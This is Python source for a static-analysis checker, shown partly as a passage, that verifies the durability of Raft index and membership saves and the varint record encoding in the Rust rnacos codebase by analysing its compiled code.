    for s in wa:
        for a in cfg.guard_atoms(b, s.bb):
            if a[0] != 'cmp':
                continue
            op, da, db, pol = a[1], cfg.strip_calls(b, a[2]), cfg.strip_calls(b, a[3]), a[4]
            # len(meta) <= K  (true edge)
            side_len = da['k'] == 'call' and (cfg.callee_name(da['term']) or '').endswith('Metadata::len')
            if side_len and db['k'] == 'const' and 'v' in db['c']:
                k = int(db['c']['v'])
                if op == 'Le' and pol is True:
                    kval = k
                elif op == 'Lt' and pol is True:
                    kval = k - 1
                elif op == 'Gt' and pol is False:
                    kval = k
                elif op == 'Ge' and pol is False:
                    kval = k - 1
    ck.require(kval is not None, 'R05b', 'RaftIndexInnerManager::init:threshold-found', b.where(),
               'the fresh-file branch of init is not selected by a comparison of the file length with a constant')
    if kval is not None:
        ck.require(kval < 11, 'R05b', 'RaftIndexInnerManager::init:fresh-threshold', b.where(),
                   'init treats index files up to %d bytes as fresh and overwrites them, but a saved record needs only 11 bytes '
                   '(e.g. term + vote = 13 bytes): an acknowledged vote/term is forgotten by a restart' % kval, 'threshold %d < 11' % kval)
        ck.require(kval >= 8, 'R05b', 'RaftIndexInnerManager::init:threshold-covers-header', b.where(),
                   'a file shorter than the 8 byte header would be read (threshold %d)' % kval)
    rd = b.calls(r'FileMessageReader::read_next$')
    dec = b.calls(r'BytesReader::read_message')
    ck.require(len(rd) == 1 and len(dec) == 1 and util.awaited(b, rd[0]), 'R05b', 'RaftIndexInnerManager::init:read-branch', b.where(),
               'read branch does not decode the stored record')
    agg = b.aggregates(r'raftindex::RaftIndexInnerManager$')
    ck.require(len(agg) >= 1, 'R05b', 'RaftIndexInnerManager::init:constructs', b.where(), 'constructor not found')
    if agg and dec:
        i, j, st = agg[0]
        rv = st['rv']
        t = Taint(b, call_src=lambda t: 'read_message' in (t.get('f') or {}).get('d', '') or (t.get('f') or {}).get('d', '').endswith('bin_to_id'))
        # the tuple (last_applied_log, raft_index) flows into the struct; on the read path from the decoded values
        for f in ('raft_index', 'last_applied_log'):
            ck.require(t.op_tainted(rv['ops'][rv['fields'].index(f)]), 'R05b', 'RaftIndexInnerManager::init:%s<-file' % f, b.where(i),
                       'field %s of the opened catalogue does not come from the file' % f)


def r05c(ck, fb):
    ck.rule('R05c', 'only RaftIndexManager / RaftIndexInnerManager methods assign fields of the catalogue (RaftIndexDto inside raft_index) '
                    'or `inner.raft_index`; writers assign exactly the fields they are responsible for')
    n = 0
    for b in fb.bodies.values():
        if '::tests::' in b.name:
            continue
        for (o, f, bb, st) in b.field_writes():
            if o.endswith('model::RaftIndexDto'):
                n += 1
                root = fb.root_of(b.name)
                owner_ok = root.startswith(IM) or root.startswith(INNER) or 'RaftIndexDto' in root or root.startswith('<rnacos::raft::filestore::model::RaftIndexDto')
                ck.require(owner_ok, 'R05c', 'assign:%s:%s' % (root, f), b.where(bb),
                           '%s assigns RaftIndexDto.%s outside the index manager: the change bypasses write_index' % (root, f))
    ck.floor('R05c', 'assignments to RaftIndexDto fields', n, 7)
    for fn, fields in FUNNEL.items():
        b = ck.body(IM + fn, 'R05c')
        if not b:
            continue
        got = set(f for (o, f, bb, st) in b.field_writes() if o.endswith('RaftIndexDto'))
        ck.require(fields <= got, 'R05c', '%s:assigns' % fn, b.where(), '%s no longer assigns %s' % (fn, sorted(fields - got)), sorted(got))
        # values come from the parameters (not constants)
        for (o, f, bb, st) in b.field_writes():
            if o.endswith('RaftIndexDto') and f in fields:
                t = Taint(b, local_src=list(range(3, b.argc + 1)))
                ck.require(any(t.op_tainted(x) for x in rv_operands(st['rv'])), 'R05c', '%s:%s<-param' % (fn, f), b.where(bb),
                           '%s.%s is not assigned from the request parameters' % (fn, f))
    b = ck.body(IM + 'add_node_addr', 'R05c')
    if b:
        ins = util.mut_calls_on_field(b, 'node_addrs', r'HashMap::<K, V, S, A>::insert$')
        ck.require(len(ins) >= 1, 'R05c', 'add_node_addr:insert', b.where(), 'add_node_addr does not insert into node_addrs')


def r05d(ck, fb):
    ck.rule('R05d', 'reader/writer agreement: get_initial_state reads current_term, voted_for, member, member_after_consensus (and '
                    'last_applied_log); get_membership_config reads member, member_after_consensus; LoadMember answers with the three '
                    'membership fields; RaftIndexDto::to_record_do and From<RaftIndex> cover every field of the DTO')
    b = ck.main(FS + 'get_initial_state', 'R05d')
    if b:
        rf = util.read_fields(b)
        for f in ('current_term', 'voted_for', 'member', 'member_after_consensus'):
            ck.require(f in rf, 'R05d', 'get_initial_state:reads:' + f, b.where(), 'get_initial_state no longer reads %s from the catalogue' % f)
        hs = b.aggregates(r'async_raft_ext::storage::HardState$')
        ck.require(len(hs) >= 1, 'R05d', 'get_initial_state:HardState', b.where(), 'HardState not built')
        if hs:
            rv = hs[0][2]['rv']
            t1 = Taint(b, place_src=field_place_src('current_term'))
            t2 = Taint(b, place_src=field_place_src('voted_for'))
            ck.require(t1.op_tainted(rv['ops'][rv['fields'].index('current_term')]) and not t2.op_tainted(rv['ops'][rv['fields'].index('current_term')]),
                       'R05d', 'get_initial_state:term<-term', b.where(hs[0][0]), 'HardState.current_term is not the stored term')
            ck.require(t2.op_tainted(rv['ops'][rv['fields'].index('voted_for')]), 'R05d', 'get_initial_state:vote<-vote', b.where(hs[0][0]),
                       'HardState.voted_for is not the stored vote')
    if b:
        # once the saved index was read, what is reported is the saved hard state: the blank initial state is only for a missing answer
        for s0 in b.calls(r'InitialState::new_initial$'):
            under = [a for a in cfg.guard_atoms(b, s0.bb) if a[0] == 'variant' and a[2] == 'RaftIndexInfo']
            ck.require(not under, 'R05d', 'get_initial_state:blank-state-only-without-index', s0.where(),
                       'InitialState::new_initial (term 0, no vote) is returned although the saved index was read: a term / vote saved before the '
                       'first log entry or membership is thrown away, in the same process and after a restart - the node can vote twice in one term')
    m = ck.main(FS + 'get_membership_config', 'R05d')
    if m:
        sd = util.sends(m, r'RaftIndexRequest$', 'LoadMember')
        ck.require(len(sd) >= 1, 'R05d', 'get_membership_config:LoadMember', m.where(), 'membership is not loaded from the index manager')
    h = util.body_with_call(fb, fb.bodies.get(HANDLER), re.escape(IM + 'write_hard_state') + '$')
    if h:
        ms = h.aggregates(r'raftindex::RaftIndexResponse$', 'MemberShip')
        ck.require(len(ms) >= 1, 'R05d', 'LoadMember:answers', h.where(), 'LoadMember answer not found')
        if ms:
            rv = ms[0][2]['rv']
            for f, src in (('member', 'member'), ('member_after_consensus', 'member_after_consensus'), ('node_addrs', 'node_addrs')):
                t = Taint(h, place_src=field_place_src(src))
                others = [x for x in ('member', 'member_after_consensus', 'node_addrs') if x != src]
                ck.require(t.op_tainted(rv['ops'][rv['fields'].index(f)]), 'R05d', 'LoadMember:%s' % f, h.where(ms[0][0]),
                           'MemberShip.%s is not answered from raft_index.%s' % (f, src))
    dto = 'rnacos::raft::filestore::model::RaftIndexDto'
    fields = set(fb.struct_fields(dto))
    ck.floor('R05d', 'RaftIndexDto fields', len(fields), 8)
    enc = ck.body(dto + '::to_record_do', 'R05d')
    if enc:
        rf = util.read_fields(enc, r'RaftIndexDto$')
        ck.require(fields <= rf, 'R05d', 'to_record_do:covers', enc.where(), 'to_record_do does not encode %s' % sorted(fields - rf), sorted(rf))
        agg = enc.aggregates(r'filestore::log::RaftIndex$')
        ck.require(len(agg) >= 1, 'R05d', 'to_record_do:record', enc.where(), 'record aggregate not found')
        if agg:
            rv = agg[0][2]['rv']
            for f in ('current_term', 'voted_for'):
                if f in rv['fields']:
                    t = Taint(enc, place_src=field_place_src(f))
                    ck.require(t.op_tainted(rv['ops'][rv['fields'].index(f)]), 'R05d', 'to_record_do:%s' % f, enc.where(), 'record.%s is not dto.%s' % (f, f))
    decs = [b for b in fb.impls(r'^std::convert::From$', r'RaftIndexDto$') if 'RaftIndex' in ''.join(b.trait_args)]
    ck.require(len(decs) >= 1, 'R05d', 'From<RaftIndex>:exists', '-', 'decoder From<RaftIndex> for RaftIndexDto not found')
    for d in decs:
        ck.analysed(d)
        agg = d.aggregates(r'model::RaftIndexDto$')
        got = set()
        for (i, j, st) in agg:
            got |= set(st['rv']['fields'])
        ck.require(fields <= got, 'R05d', 'From<RaftIndex>:covers', d.where(), 'decoder does not set %s' % sorted(fields - got))
        for (i, j, st) in agg:
            rv = st['rv']
            for f in ('current_term', 'voted_for'):
                t = Taint(d, place_src=field_place_src(f))
                ck.require(t.op_tainted(rv['ops'][rv['fields'].index(f)]), 'R05d', 'From<RaftIndex>:%s' % f, d.where(i), 'dto.%s is not record.%s' % (f, f))


def r05e(ck, fb):
    ck.rule('R05e', 'FileStore::save_hard_state sends SaveHardState{current_term: hs.current_term, voted_for: hs.voted_for} with send().await?? '
                    'and returns Ok only afterwards')
    b = ck.main(FS + 'save_hard_state', 'R05e')
    if not b:
        return
    sd = util.sends(b, r'RaftIndexRequest$', 'SaveHardState')
    ck.require(len(sd) >= 1 and all(_x[0].callee.endswith('::send') and util.awaited(b, _x[0]) for _x in sd), 'R05e', 'save_hard_state:send', b.where(),
               'SaveHardState is not sent with an awaited send()')
    if sd:
        a = sd[0][3]
        t1 = Taint(b, place_src=field_place_src('current_term'))
        t2 = Taint(b, place_src=field_place_src('voted_for'))
        ck.require(t1.op_tainted(a['ops'][a['fields'].index('current_term')]), 'R05e', 'save_hard_state:term', sd[0][0].where(), 'term not passed')
        ck.require(t2.op_tainted(a['ops'][a['fields'].index('voted_for')]), 'R05e', 'save_hard_state:vote', sd[0][0].where(), 'vote not passed')
        oks = util.ok_return_blocks(b)
        ck.require(bool(oks) and all(cfg.dominates_blocks(b, {sd[0][0].bb}, i) for i in oks), 'R05e', 'save_hard_state:ok-after-send', b.where(),
                   'Ok is returned without the save having been sent')
        # both `?` present: Ok only under Continue of both results
        for i in oks:
            n = sum(1 for (adt, v) in util.variant_guards(b, i) if v == 'Continue')
            ck.require(n >= 1, 'R05e', 'save_hard_state:errors-propagate', b.where(i), 'errors of the save are not propagated (missing ?)')


def r05g(ck, fb):
    ck.rule('R05g', 'a save is acknowledged after it is in the file: RaftIndexManager registers every file write with ctx.wait (R05a), which only '
                    'STARTS it after the handler returned; the answer of Handler<RaftIndexRequest> must therefore travel through the context\'s '
                    'future queue (a ResponseActFuture is polled only when no wait future is left), not be a plain value that actix sends back at '
                    'once - otherwise save_hard_state returns while the index file still holds the old term and vote')
    hs = [b for b in fb.find(r'RaftIndexManager as actix::Handler<rnacos::raft::filestore::raftindex::RaftIndexRequest>>::handle$')]
    if not ck.require(len(hs) >= 1, 'R05g', 'anchor:handler', '-', 'Handler<RaftIndexRequest> for RaftIndexManager not found'):
        return
    h = hs[0]
    ck.analysed(h)
    ty = h.local_ty(0) or ''
    detached = False
    for x in util.region(fb, h):
        if x.calls(r'ContextFutureSpawner::wait$|AsyncContext::wait$'):
            detached = True
    fut = 'ActorFuture' in ty or 'ResponseActFuture' in ty or 'Pin<' in ty
    ck.require((not detached) or fut, 'R05g', 'handler:answer-after-wait-futures', h.where(),
               'the handler answers with a plain %s while the write it triggers is only queued with ctx.wait: the caller (save_hard_state, SaveMember, '
               'AddNodeAddr) is acknowledged before the write has started - a copy of the index file taken right after the acknowledgement still holds '
               'the previous term and vote' % ty[:60], 'answer delivered as an actor future')


def r05h(ck, fb, R='R05h'):
    ck.rule(R, 'no decision is taken on a field whose new value is still in flight: when an actor method schedules a future (ctx.wait / ctx.spawn) whose '
               'completion closure assigns an actor field, the field holds the OLD value until that closure has run - after the method returned. A '
               'method that calls such a scheduler (directly or through its helpers) must not read that field afterwards on the same path. '
               'RaftSnapshotManager::install_snapshot built the SaveMember it sends to the index from last_header right after scheduling the load '
               'of the installed snapshot\'s header: it saved the membership and the address map of the previous snapshot')
    deferred = {}
    for c in fb.bodies.values():
        if not c.parent or c.kind != 'Closure':
            continue
        P = fb.bodies.get(c.parent)
        if P is None or not P.calls(r'ContextFutureSpawner<.*>>::(wait|spawn)$|AsyncContext<.*>>::(wait|spawn)$'):
            continue
        for (o, f, bb, st) in c.field_writes():
            if o.startswith('rnacos::'):
                deferred.setdefault((o, f), set()).add(P.name)
    ck.floor(R, 'actor fields assigned by a completion closure', len(deferred), 10)
    n = 0
    regs = {}

    def region_names(t):
        if t.name not in regs:
            regs[t.name] = set(x.name for x in util.region(fb, t, 3))
        return regs[t.name]
    readers = {}
    for X in fb.bodies.values():
        if X.parent or '::tests::' in X.name:
            continue
        for (oo, ff, bb, st) in X.field_reads():
            if (oo, ff) in deferred:
                readers.setdefault((oo, ff), {}).setdefault(X.name, []).append(bb)
    for (o, f), Ps in sorted(deferred.items()):
        for xn, reads in sorted(readers.get((o, f), {}).items()):
            X = fb.bodies[xn]
            if xn in Ps:
                continue
            for s0 in X.sites:
                t = util._local_target(X, s0)
                if t is None:
                    continue
                if not (region_names(t) & Ps):
                    continue
                n += 1
                ck.analysed(X)
                nxt = X.blocks[s0.bb]['t'].get('t')
                r = cfg.reach_from(X, [nxt]) if nxt is not None else set()
                hit = [b for b in reads if b in r]
                ck.require(not hit, R, 'stale-read:%s.%s:in:%s' % (o.split('::')[-1], f, X.name.split('::')[-1]), X.where(hit[0]) if hit else s0.where(),
                           '%s reads %s.%s after calling %s, which only schedules the future that will assign it: the value read is the one from before '
                           '(install of snapshot 2 with members {1,2,3} saved members [1,2] and the addresses of 1 and 2 - the header of snapshot 1 - '
                           'to the index; a stop before apply_snapshot repairs it leaves the regressed membership in the file)' % (
                               X.name.split('::')[-1], o.split('::')[-1], f, t.name.split('::')[-1]),
                           'not read after %s' % t.name.split('::')[-1])
    ck.info(R, '%d call sites of a scheduler in a method that also reads the scheduled field' % n)


def r05i(ck, fb, R='R05i'):
    ck.rule(R, 'an acknowledged membership change is made durable by every caller: FileStore answers get_membership_config / get_initial_state from the '
               'index file, and the index membership is only written when a ClientRequest::Members entry is applied - the ConfigChange entries of '
               'the Raft core are stored in the log without touching it. Every call of Raft::change_membership must therefore be followed, on the '
               'continuing path of the same function, by a client_write of ClientRequest::Members (join_node does this; the REST handler '
               'POST /nacos/v1/raft/change-membership, documented for scaling the cluster, did not)')
    n = 0
    for b in sorted(fb.bodies.values(), key=lambda x: x.name):
        if '::tests::' in b.name:
            continue
        cms = b.calls(r'async_raft_ext::Raft::<.*>::change_membership$|Raft::<D, R, N, S>::change_membership$')
        for s0 in cms:
            n += 1
            ck.analysed(b)
            nxt = b.blocks[s0.bb]['t'].get('t')
            r = cfg.reach_from(b, [nxt]) if nxt is not None else set()
            aggs = [i for (i, j, st) in b.aggregates(r'rnacos::raft::store::ClientRequest$', 'Members') if i in r]
            cw = [c for c in b.calls(r'::client_write$') if c.bb in r]
            ok = False
            for a in aggs:
                ra = cfg.reach_from(b, [a])
                if any(c.bb in ra or c.bb == a for c in cw):
                    ok = True
            ck.require(ok, R, 'change_membership-then-Members:%s' % b.name.replace('::{closure#0}', '').split('rnacos::')[-1], s0.where(),
                       'Raft::change_membership is acknowledged here without a ClientRequest::Members entry: the index file keeps the old '
                       'membership. Real binary, 3 nodes: change-membership [1] is acknowledged and node 1 leads alone; after a restart node 1 '
                       'reports members [1, 2, 3], stays Follower without a leader and refuses every write',
                       'followed by client_write(ClientRequest::Members)')
    ck.floor(R, 'callers of Raft::change_membership', n, 2)


def r05j(ck, fb, R='R05j'):
    ck.rule(R, 'a save is answered Ok only after write_index, unless nothing is to be saved: in every catalogue writer a success answer that '
               'does not pass write_index lies behind an equality test of EVERY field the writer is responsible for against its parameter '
               '(a shortcut on the term alone forgets a vote granted in the current term; on the member list alone a changed address)')
    n = 0
    for fn, fields in FUNNEL.items():
        b = ck.body(IM + fn, R)
        if not b:
            continue
        wi = {s.bb for s in b.calls(re.escape(IM + 'write_index') + '$')}
        if not wi:
            continue   # R05a reports the missing funnel
        free = cfg.reach_from(b, [0], blocked_blocks=list(wi)) | {0}
        oks = [i for i in util.ok_return_blocks(b) if i in free and i in cfg.live_blocks(b)]
        n += 1
        bad = []
        for i in oks:
            eq = set()
            for a in cfg.guard_atoms(b, i):
                if a[0] != 'cmp':
                    continue
                op, pol = a[1], a[4]
                if (op == 'Eq' and pol is True) or (op == 'Ne' and pol is False):
                    for side in (a[2], a[3]):
                        d = cfg.strip_calls(b, side)
                        if d['k'] == 'place':
                            eq |= set(d['fields'])
            need = fields or {'node_addrs'}
            if not need <= eq:
                bad.append((i, sorted(need - eq)))
        ck.require(not bad, R, '%s:ok-without-write' % fn, b.where(bad[0][0]) if bad else b.where(),
                   '%s can answer Ok without write_index on a path that does not establish that %s already hold the requested values: '
                   'the acknowledged save (%s) is neither in memory nor in the index file and is gone after a restart'
                   % (fn, bad[0][1] if bad else '', ', '.join(sorted(fields)) or 'node address'),
                   '%d success answers outside write_index' % len(oks))
    ck.floor(R, 'catalogue writers', n, 6)


def r05k(ck, fb, R='R05k'):
    ck.rule(R, 'a local compaction never writes membership: the header of a snapshot this node builds holds the member list and addresses read when '
               'the build began; saving them at the end (SaveMember) would undo every membership / address save acknowledged meanwhile. From the '
               'CompleteSnapshot arm of RaftSnapshotManager no send of RaftIndexRequest::SaveMember is reachable once constant flag arguments are '
               'propagated through calls and captured variables; from the InstallSnapshot arm (the leader\'s snapshot: its header is newer than what '
               'the node holds) one is')
    from rn import ipconst
    SM = 'rnacos::raft::filestore::raftsnapshot::RaftSnapshotManager'
    H = '<%s as actix::Handler<rnacos::raft::filestore::raftsnapshot::RaftSnapshotRequest>>::handle' % SM
    h = ck.body(H, R)
    if not h:
        return
    h = util.body_with_call(fb, h, re.escape(SM + '::complete_snapshot') + '$')
    targets = set()
    for b in fb.bodies.values():
        if 'raftsnapshot' not in b.name:
            continue
        for (s0, m0, v0, a0) in util.sends(b, r'RaftIndexRequest$', 'SaveMember'):
            targets.add((b.name, s0.bb))
    ck.floor(R, 'SaveMember sends in the snapshot manager', len(targets), 1)

    def pred(b, s):
        return (b.name, s.bb) in targets

    def from_arm(variant):
        found = None
        n = 0
        for s in h.sites:
            if not s.callee or not any(v == variant for (_, v) in util.variant_guards(h, s.bb)):
                continue
            callee = fb.bodies.get(s.resolved or s.callee)
            if callee is None or callee.parent:
                continue
            n += 1
            k2 = {}
            for idx, op in enumerate(s.args):
                v = ipconst._value_of_op(h, op, {})
                if v is not None:
                    k2[('arg', idx + 1)] = v
            r = ipconst.reach_target(fb, callee, k2, pred)
            if r and not found:
                found = [(h.name, s)] + r
        return n, found
    n1, p1 = from_arm('CompleteSnapshot')
    ck.require(n1 >= 1, R, 'CompleteSnapshot:arm', h.where(), 'the CompleteSnapshot arm calls nothing: anchor lost')
    ck.require(p1 is None, R, 'CompleteSnapshot:no-SaveMember', (p1[-1][1].where() if p1 else h.where()),
               'finishing a locally built snapshot sends SaveMember with the membership / addresses of the snapshot header (path: %s): a node '
               'address or member change acknowledged while the snapshot was being built is overwritten in memory and in the index file'
               % (' -> '.join(x[0].split('::')[-1] for x in p1) if p1 else ''), 'not reachable under the constant flags')
    n2, p2 = from_arm('InstallSnapshot')
    ck.require(p2 is not None, R, 'InstallSnapshot:SaveMember', h.where(),
               'the install path no longer reaches SaveMember (membership of the leader\'s snapshot is not saved), or the matcher lost its anchor')


def r05m(ck, fb, R='R05m'):
    ck.rule(R, 'a save never takes away what another save stored: the catalogue writers of RaftIndexManager change node_addrs / member lists only by '
               'assigning the value they were given or by inserting - no retain / remove / clear / drain / truncate on a field of raft_index. '
               'Pruning addresses "of nodes that are in no configuration" deletes the address of a node whose NodeAddr entry was applied before the '
               'Members entry that adds it (two nodes joining at once): the peer is forgotten, in the same process and after a restart')
    n = 0
    for fn in FUNNEL:
        b = fb.bodies.get(IM + fn)
        if b is None:
            continue
        n += 1
        bad = []
        for x in util.region(fb, b):
            for s0 in x.calls(r'::(retain|remove|clear|drain|truncate|pop|swap_remove|remove_entry|split_off|dedup)$'):
                rf = util.recv_fields(x, s0)
                ty = ''
                from rn.facts import op_place, pl_local
                p = op_place(s0.args[0]) if s0.args else None
                if p is not None:
                    ty = x.local_ty(pl_local(p)) or ''
                if any(f in ('node_addrs', 'member', 'member_after_consensus', 'logs', 'snapshots', 'raft_index') for f in rf) or \
                        (x is not b and x.parent) or re.search(r'HashMap<u64, .*Arc<.*String|Vec<u64>', ty):
                    bad.append(s0)
        ck.require(not bad, R, '%s:keeps-what-was-saved' % fn, bad[0].where() if bad else b.where(),
                   '%s removes entries from the catalogue (%s): an address / member that an earlier, acknowledged save stored and no later save '
                   'replaced is gone' % (fn, sorted(set(s0.callee.split('::')[-1] for s0 in bad))), 'assign / insert only')
    ck.floor(R, 'catalogue writers', n, 6)


def r05n(ck, fb, R='R05n'):
    ck.rule(R, '"every later read - after any number of restarts - returns that membership and address, until a later save replaces them": the index '
               'file is the durable home of the membership and the node addresses, and a start-up is not a save. The start-up replay '
               '(RaftDataHandler::load_log, run for every entry between the snapshot and last_applied_log) reaches no send of '
               'RaftIndexRequest::SaveMember / AddNodeAddr: each applied entry wrote its value before the last_applied_log that makes the replay '
               'reach it, so the file already holds the newest value; re-saving the old entries takes the file - and what raft reads from it, since '
               'raft is built before the replay has finished - back through [1], [1,2], ... A kill in that window leaves a regressed membership: '
               'with members [1] and a non-empty log the node elects itself leader of a one-node cluster')
    b = ck.main('rnacos::raft::filestore::raftdata::RaftDataHandler::load_log', R)
    if not b:
        return
    reg = util.region(fb, b, 2)
    n = sum(len(util.sends(x)) for x in reg)
    ck.floor(R, 'actor sends on the replay path', n, 8)
    bad = [(x, s0, v0) for x in reg for (s0, m0, v0, a0) in util.sends(x, r'RaftIndexRequest$') if v0 in ('SaveMember', 'AddNodeAddr', 'SaveHardState')]
    for (x, s0, v0) in bad:
        ck.bad(R, 'load_log:replay-writes-catalogue:%s' % v0, s0.where(),
               'the start-up replay sends RaftIndexRequest::%s for a historical log entry: during every start the index file goes back through the whole '
               'membership / address history; a kill after replayed entry 2 of 7 leaves members [1] on disk although {1,2,3} had been saved and '
               'acknowledged before the restart' % v0)
    if not bad:
        ck.ok(R, 'load_log:no-catalogue-writes', b.where(), '%d sends, none to the membership / address record' % n)
