"""C20 Length-prefixed record streams decode identically under every chunking."""
import re
from rn import util, cfg
from rn.absint import Interp, BV, VecV, Ref, Adt, Undecided, Unsupported, Panic
from rn.facts import pl_fields, op_place
from rn.flow import Taint, field_place_src

PU = 'rnacos::common::protobuf_utils::'


def same_origin(body, d1, d2):
    if d1['k'] != d2['k']:
        return False
    if d1['k'] == 'place':
        return d1['fields'] == d2['fields']
    if d1['k'] in ('multi', 'unknown', 'arg'):
        return d1.get('l') == d2.get('l')
    return False


def util_agg(b, op):
    from rn import util
    return util.agg_of(b, op)


def run(ck, fb):
    ck.explanation = (
        'Decides (a) for ALL u64 values, by exhaustive abstract interpretation of the compiled MIR of write_varint64, '
        'inner_sizeof_varint and read_varint64_offset over 65 leading-bit classes with bit provenance, that writer, size '
        'function and reader agree; (b) that MessageBufReader never reads a buffer byte that is not guarded by a comparison '
        'with its valid end, (c) that the end-of-stream test in read_len is the zero length and the returned length adds the '
        'prefix size of the same decoded length, (d) that every consumer loop of the stream reader keeps the '
        'append/next_message alternation. ')
    ck.undecided = ('Does not decide equality of decoded record bodies for arbitrary payload bytes or all chunkings by '
                    'execution; the body is copied, not interpreted.')
    r20a(ck, fb)
    r20b(ck, fb)
    r20c(ck, fb)
    r20d(ck, fb)
    r20e(ck, fb)
    r20f(ck, fb)
    r20g(ck, fb)
    r20h(ck, fb)
    r20i(ck, fb)
    r20j(ck, fb)


def r20a(ck, fb):
    ck.rule('R20a', 'for every u64 (65 leading-bit classes, bit provenance): len(write_varint64(v)) == inner_sizeof_varint(v), '
                    'read_varint64_offset(write_varint64(v) ++ junk, 0) == Ok(v) bit for bit, no out-of-range index')
    w = ck.body(PU + 'write_varint64', 'R20a')
    r = ck.body(PU + 'read_varint64_offset', 'R20a')
    sz = ck.body(PU + 'inner_sizeof_varint', 'R20a')
    r0 = ck.body(PU + 'read_varint64', 'R20a')
    if not (w and r and sz and r0):
        return
    n_ok = 0
    for t in range(-1, 64):
        if t < 0:
            v = BV.const(64, 0)
            cname = 'v=0'
        else:
            v = BV(64, [('x', 'v', i) for i in range(t)] + [1] + [0] * (63 - t))
            cname = 'leading-one-bit=%d' % t
        try:
            out = Interp(fb).call_body(w, [v], 0)
            if not isinstance(out, VecV) or not all(isinstance(b, BV) and b.w == 8 for b in out.items):
                raise Unsupported('writer result %r' % (out,))
            n = len(out.items)
        except (Undecided, Unsupported, Panic) as e:
            # the class does not decide the writer's branch: members of the class behave differently. Name a witness from its corners.
            wit = ''
            if t >= 0:
                for cv in (1 << t, (1 << (t + 1)) - 1, (1 << t) | ((1 << t) - 1) >> 1):
                    try:
                        o2 = Interp(fb).call_body(w, [BV.const(64, cv)], 0)
                        s2 = Interp(fb).call_body(sz, [BV.const(64, cv)], 0)
                        if isinstance(o2, VecV) and isinstance(s2, BV) and s2.is_const() and len(o2.items) != s2.value():
                            wit = ' - witness: write_varint64(%d) emits %d bytes, inner_sizeof_varint says %d' % (cv, len(o2.items), s2.value())
                            break
                    except (Undecided, Unsupported, Panic):
                        pass
            ck.bad('R20a', 'write:%s' % cname, w.where(), 'write_varint64 is not uniform on class %s (its branch depends on more than the position of the '
                   'leading one bit, which is all the wire format may depend on)%s [%s]' % (cname, wit, str(e)[:60]))
            continue
        # (1) size function
        try:
            s = Interp(fb).call_body(sz, [v], 0)
            ck.require(isinstance(s, BV) and s.is_const() and s.value() == n, 'R20a', 'size:%s' % cname, sz.where(),
                       'inner_sizeof_varint gives %r but write_varint64 emits %d bytes for class %s' % (s, n, cname),
                       '%d bytes' % n)
        except (Undecided, Unsupported, Panic) as e:
            ck.bad('R20a', 'size:%s' % cname, sz.where(), 'inner_sizeof_varint not decided for class %s: %s' % (cname, e))
        # (2)+(3) reader on emitted bytes followed by arbitrary bytes up to the 10 byte window read_len provides
        try:
            buf = VecV(list(out.items) + [BV(8, ['T'] * 8)] * (10 - n))
            res = Interp(fb).call_body(r0, [Ref(obj=buf)], 0)
            good = isinstance(res, Adt) and res.variant == 'Ok' and isinstance(res.fields[0], BV) and res.fields[0].bits == v.bits
            ck.require(good, 'R20a', 'read:%s' % cname, r.where(),
                       'read_varint64 of the bytes written for class %s yields %r, not the input bits' % (cname, res), 'Ok(v)')
            # exactly the emitted bytes (stream ends right after the varint)
            buf2 = VecV(list(out.items))
            res2 = Interp(fb).call_body(r, [Ref(obj=buf2), BV.const(64, 0)], 0)
            good2 = isinstance(res2, Adt) and res2.variant == 'Ok' and res2.fields[0].bits == v.bits
            ck.require(good2, 'R20a', 'read-exact:%s' % cname, r.where(),
                       'read_varint64_offset on exactly the written bytes yields %r' % (res2,), 'Ok(v), no index beyond the varint')
        except (Undecided, Unsupported, Panic) as e:
            ck.bad('R20a', 'read:%s' % cname, r.where(), 'reader not decided / may panic for class %s: %s' % (cname, e))
        n_ok += 1
    ck.floor('R20a', 'varint classes interpreted', n_ok, 65)
    ck.extra['varint_classes'] = 65
    ck.extra['exhaustive_varint'] = True


def r20b(ck, fb):
    ck.rule('R20b', 'in impl MessageBufReader every element read buf[idx] is control-dependent on a comparison of the same idx '
                    'with field `end` (idx < end); range reads use bounds built from start/end/next_len')
    n_idx = 0
    bodies = [b for b in fb.find('^' + PU + 'MessageBufReader::') if not b.parent]
    ck.floor('R20b', 'MessageBufReader methods', len(bodies), 6)
    for b in bodies:
        ck.analysed(b)
        for s in b.calls(r'std::ops::Index(Mut)?>?::index(_mut)?$|as std::ops::Index'):
            # receiver must be field buf
            recv = cfg.strip_calls(b, cfg.describe_operand(b, s.args[0]))
            if recv['k'] != 'place' or recv['fields'][-1:] != ['buf']:
                continue
            ity = s.gargs[1] if len(s.gargs) > 1 else ''
            if ity != 'usize':
                # range index: bounds must come from the cursor fields
                rng = cfg.describe_operand(b, s.args[1])
                okr = False
                if rng['k'] == 'agg':
                    srcs = [cfg.origin_fields(b, o) for o in rng['rv']['ops']]
                    okr = all(f and f[-1] in ('start', 'end', 'next_len') for f in srcs)
                ck.require(okr, 'R20b', '%s:range-index' % b.name, s.where(),
                           'range read of buf with bounds not built from start/end', 'bounds from cursor fields')
                # a read view of buf must stop at the valid end: an open-ended range exposes stale bytes behind `end`
                is_mut = 'index_mut' in s.callee or 'IndexMut' in s.callee
                if not is_mut:
                    bounded = rng['k'] == 'agg' and len(rng['rv']['ops']) == 2 and 'RangeFrom' not in ity and 'RangeFull' not in ity
                    ck.require(bounded, 'R20b', '%s:range-upper-bound' % b.name, s.where(),
                               'MessageBufReader reads buf through an open-ended range (%s): bytes behind `end` are stale or unread, so a '
                               'length prefix cut by a chunk boundary is decoded from garbage' % ity, 'range bounded by end / start+next_len')
                n_idx += 1
                continue
            n_idx += 1
            idx = cfg.describe_operand(b, s.args[1])
            good = False
            for a in cfg.guard_atoms(b, s.bb):
                if a[0] != 'cmp':
                    continue
                op, da, db, pol = a[1], a[2], a[3], a[4]
                da, db = cfg.strip_calls(b, da), cfg.strip_calls(b, db)
                # idx < end  (true)   |  idx >= end (false)  | end > idx (true) | end <= idx (false)
                if da['k'] == 'place' and da['fields'] == ['end'] or db['k'] == 'place' and db['fields'] == ['end']:
                    end_is_b = db['k'] == 'place' and db['fields'] == ['end']
                    other = da if end_is_b else db
                    if not same_origin(b, other, idx):
                        continue
                    if end_is_b and ((op == 'Lt' and pol is True) or (op == 'Ge' and pol is False)):
                        good = True
                    if (not end_is_b) and ((op == 'Gt' and pol is True) or (op == 'Le' and pol is False)):
                        good = True
            ck.require(good, 'R20b', '%s:buf[idx]' % b.name, s.where(),
                       'MessageBufReader reads buf[idx] without first comparing idx with `end` (the number of valid bytes): a record '
                       'ending exactly at the end of a read chunk makes the reader look at a stale/absent byte and end the scan early',
                       'guarded by idx < end')
    ck.floor('R20b', 'buf index sites', n_idx, 2)
    # append_next_buf must rebase both cursors
